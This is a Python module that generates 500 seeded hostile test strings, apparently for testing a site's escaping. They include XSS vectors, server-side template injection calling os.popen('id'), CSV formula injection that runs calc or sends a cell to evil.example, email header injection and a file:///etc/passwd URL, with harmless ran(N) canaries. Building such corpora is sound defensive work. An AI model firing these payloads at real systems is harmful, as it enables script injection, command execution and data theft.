"""Texts that mean harm, as an outlet, a comment or a query could carry them: seeded, each of its own number.

What would run calls `ran(NUMBER)`; what would become markup carries the attribute `data-ran`.
"""

from __future__ import annotations

import html
import random
from collections.abc import Callable
from urllib.parse import quote

COUNT = 500
SEED = 20261123
BREAKS = (
    "", '"', "'", '">', "'>", "</title>", "</script>", "</textarea>", "</style>", "-->", "]]>", "</option></select>",
    "</noscript>", "</template>", "</table>", "</a>", "</svg>", "</details>", "\\", "`", "\u2028", "\u202e", "\ufeff",
)  # fmt: skip
MARKUP = (
    "<script data-ran>ran(@)</script>",
    "<ScRiPt data-ran>ran(@)</sCrIpT>",
    "<script data-ran\n>ran(@)</script\t>",
    "<script data-ran type=module>ran(@)</script>",
    "<img data-ran src=x onerror=ran(@)>",
    "<img/data-ran/src=x/onerror=ran(@)>",
    "<img\tdata-ran\nsrc=x\x0conerror\n=ran(@)>",
    "<img data-ran src=x onerror='ran(@)' <b>",
    "<image data-ran href=x onerror=ran(@)>",
    "<svg data-ran onload=ran(@)>",
    "<svg data-ran><script>ran(@)</script></svg>",
    "<svg data-ran><animate onbegin=ran(@) attributeName=x dur=1s></svg>",
    "<svg data-ran><a xlink:href='javascript:ran(@)'><text x=20 y=20>bấm</text></a></svg>",
    "<svg data-ran><use href='data:image/svg+xml,<svg id=x><script>ran(@)</script></svg>#x'></svg>",
    "<math data-ran><mtext><table><mglyph><style><!--</style><img src=x onerror=ran(@)>",
    "<details data-ran open ontoggle=ran(@)>",
    "<body data-ran onload=ran(@)>",
    "<input data-ran autofocus onfocus=ran(@)>",
    "<select data-ran autofocus onfocus=ran(@)></select>",
    "<video data-ran><source onerror=ran(@)></video>",
    "<audio data-ran src=x onerror=ran(@)>",
    "<marquee data-ran onstart=ran(@)>x</marquee>",
    "<iframe data-ran srcdoc='<script>parent.ran(@)</script>'></iframe>",
    "<iframe data-ran src=javascript:parent.ran(@)></iframe>",
    "<object data-ran data=javascript:ran(@)></object>",
    "<embed data-ran src=javascript:ran(@)>",
    "<form data-ran><button formaction=javascript:ran(@)>bấm</button></form>",
    "<a data-ran href=javascript:ran(@)>bấm</a>",
    "<a data-ran href='java\nscript:ran(@)'>bấm</a>",
    "<meta data-ran http-equiv=refresh content='0;url=javascript:ran(@)'>",
    "<base data-ran href=//evil.example/>",
    "<link data-ran rel=stylesheet href=//evil.example/@.css>",
    "<style data-ran>*{background:url(//evil.example/@)}</style>",
    "<div data-ran style='animation:x' onanimationstart=ran(@)><style>@keyframes x{}</style>",
    "<noscript><p title='</noscript><img data-ran src=x onerror=ran(@)>'>",
    "<!--><img data-ran src=x onerror=ran(@)>-->",
    "<![CDATA[><img data-ran src=x onerror=ran(@)>]]>",
    "<xmp><p title='</xmp><img data-ran src=x onerror=ran(@)>'>",
    "<template><s data-ran></template><img data-ran src=x onerror=ran(@)>",
    "<textarea data-ran autofocus onfocus=ran(@)>",
    "<p data-ran>&lt;img src=x onerror=ran(@)&gt;</p>",
    "<<script data-ran>ran(@)//<</script>",
)
ATTRIBUTES = (
    '" data-ran onmouseover=ran(@) x="',
    "' data-ran onmouseover=ran(@) x='",
    '" data-ran autofocus tabindex=0 onfocus=ran(@) x="',
    "' data-ran autofocus tabindex=0 onfocus=ran(@) x='",
    '"data-ran style="animation:x"onanimationstart="ran(@)',
    "` data-ran onclick=ran(@) x=`",
    'x data-ran onpointerenter=ran(@) ',
    '&quot; data-ran onmouseover=ran(@) x=&quot;',
)  # fmt: skip
SCRIPTS = (
    '";ran(@)//',
    "';ran(@)//",
    "'-ran(@)-'",
    '"}];ran(@)//',
    "</script><script data-ran>ran(@)//",
    "\\u0022;ran(@)//",
    "\\');ran(@)//",
    "${ran(@)}",
    "`+ran(@)+`",
    "\u2028ran(@)\u2029",
    "*/ran(@)/*",
    "-->\nran(@)//",
    "{{constructor.constructor('ran(@)')()}}",
    "{{ cycler.__init__.__globals__.os.popen('id') }} @",
    "{% for x in range(9) %}{{ x }}{% endfor %} @",
    "#{7*7} <%= 7*7 %> @",
    "datum.constructor.constructor('ran(@)')()",
    "[bấm](javascript:ran(@)) ![x](x'onerror=ran(@))",
    "__proto__[ran]=@",
)
ADDRESSES = (
    "javascript:ran(@)",
    "JaVaScRiPt:ran(@)",
    " javascript:ran(@)",
    "java\tscript:ran(@)",
    "\x01javascript:ran(@)",
    "javascript://bao.example/%0aran(@)",
    "data:text/html,<script>parent.ran(@)</script>",
    "data:image/svg+xml,<svg onload=ran(@)>",
    "vbscript:ran(@)",
    "blob:https://bao.example/@",
    "//evil.example/@",
    "https://evil.example\\@bao.example/@",
    'https://bao.example/@"data-ran onmouseover="ran(@)',
    "https://bao.example/@'onmouseover='ran(@)",
    'https://bao.example/@?<script>ran(@)</script>#"><img data-ran src=x onerror=ran(@)>',
    "https://[::1/@",
    "file:///etc/passwd#@",
)
TABLES = (
    "=HYPERLINK(\"http://evil.example/?\"&A1;\"@\")",
    "=cmd|' /C calc'!A@",
    "+cmd|' /C calc'!A@",
    "-2+3+cmd|' /C calc'!A@",
    "@SUM(1+@)*cmd|' /C calc'!A0",
    "\t=1+@",
    "\r=1+@",
    "\n=1+@",
    '";=1+@;"',
    "＝1+@",
)  # fmt: skip
LETTERS = (
    "Tin\r\nBcc: evil@evil.example\r\n\r\n<script>ran(@)</script>",
    "Tin\nContent-Type: text/html\n\n<script>ran(@)</script>",
    "Tin\x0bSubject: x@",
    "=?utf-8?B?PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=?= @",
    ".\r\nQUIT\r\n@",
    "\r\n.\r\nMAIL FROM:<evil@evil.example>\r\n@",
    "id: 9\nevent: alert\ndata: ran(@)\n\n",
)


def _upper(text: str) -> str:
    """Letters of markup in turns, what is called as it is."""
    return "".join(letter.upper() if at % 2 else letter for at, letter in enumerate(text)).replace("RAN(", "ran(")


CODINGS: tuple[Callable[[str], str], ...] = (
    str,
    str,
    str,
    html.escape,
    lambda text: html.escape(html.escape(text)),
    lambda text: "".join(f"&#{ord(letter)};" for letter in text),
    lambda text: "".join(f"&#x{ord(letter):x}" for letter in text),
    quote,
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace("<", "\\u003c"),
    lambda text: text.replace(" ", "\x0c"),
)
WORDS = ("Lũ ở Đakrông", "sập cầu", "Cam Lộ: điểm sạt lở", "bệnh viện", "A & B", "“nóng”")


def hostile_texts(count: int = COUNT, seed: int = SEED) -> list[str]:
    """So many different texts: every pattern as it is, then patterns behind ways out of where they may stand, coded."""
    chance = random.Random(seed)
    plain = (*MARKUP, *ATTRIBUTES, *SCRIPTS, *ADDRESSES, *TABLES, *LETTERS)
    found = [pattern.replace("@", str(number)) for number, pattern in enumerate(plain)]
    while len(found) < count:
        kind = chance.choices((MARKUP, ATTRIBUTES, SCRIPTS, ADDRESSES), (6, 2, 2, 1))[0]
        core = chance.choice(kind).replace("@", str(len(found)))
        text = chance.choice(CODINGS)(chance.choice(BREAKS) + core)
        if chance.random() < 0.4:
            text = f"{chance.choice(WORDS)} {text}" if chance.random() < 0.7 else f"{text} {chance.choice(WORDS)}"
        if text not in found:
            found.append(text)
    return found[:count]
